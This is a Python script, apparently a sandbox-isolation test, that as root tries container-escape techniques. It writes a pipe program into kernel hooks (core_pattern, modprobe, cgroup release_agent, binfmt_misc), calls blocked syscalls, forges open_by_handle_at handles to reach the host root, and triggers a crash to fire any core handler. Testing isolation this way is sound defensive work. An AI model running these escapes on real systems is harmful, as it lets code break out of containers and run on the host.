"""Run inside a sandbox as root: pull every lever by which containers were left. Prints what looked like a success."""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import sys
from collections.abc import Callable
from typing import cast

libc = ctypes.CDLL(None, use_errno=True)
mark, boot_id = sys.argv[1:]
found: list[str] = []


def attempt(name: str, work: Callable[..., bool], *arguments: object) -> None:
    with contextlib.suppress(OSError):
        if work(*arguments):
            found.append(name)


def overwrite(path: str) -> bool:
    """Put a program of ours where a kernel would run it. That the guest's own copy changes does no harm."""
    with open(path, "w") as file:
        file.write(f"|/bin/touch /{mark}\n")
    return False


def called(number: int, *arguments: int) -> bool:
    """Whether a system call that must not work does."""
    return cast(bool, libc.syscall(number, *arguments) >= 0)


def handle_of_root(number: int) -> bool:
    """The file behind a made-up handle: inode 2 is the root of many file systems."""
    handle = (ctypes.c_uint32 * 4)(8, 1, number, 0)
    top = os.open("/", os.O_RDONLY)
    try:
        opened = libc.open_by_handle_at(top, handle, os.O_RDONLY)
        return opened >= 0 and mark in os.listdir(opened)
    finally:
        os.close(top)


def same_kernel() -> bool:
    with open("/proc/sys/kernel/random/boot_id") as file:
        return file.read().strip() == boot_id


def foreign_processes() -> bool:
    """Processes that are none of this sandbox: there are far fewer than a hundred here."""
    return len([name for name in os.listdir("/proc") if name.isdigit()]) > 100


for path in (
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/modprobe",
    "/proc/sys/kernel/hotplug",
    "/proc/sysrq-trigger",
    "/sys/kernel/uevent_helper",
    "/sys/fs/cgroup/release_agent",
    "/sys/fs/cgroup/memory/release_agent",
    "/proc/sys/vm/panic_on_oom",
    "/proc/sys/fs/binfmt_misc/register",
):
    attempt(f"write {path}", overwrite, path)
for name, number in (
    ("init_module", 175),
    ("kexec_load", 246),
    ("bpf", 321),
    ("perf_event_open", 298),
    ("reboot", 169),
):
    attempt(name, called, number, 0, 0, 0, 0, 0)
for inode in (2, 64, 128, 256):
    attempt(f"handle of inode {inode}", handle_of_root, inode)
attempt("the host's boot", same_kernel)
attempt("processes of others", foreign_processes)
# A crash, in case that somebody took our program for one that handles it.
child = os.fork()
if child == 0:
    os.abort()
os.waitpid(child, 0)
print(json.dumps(found))
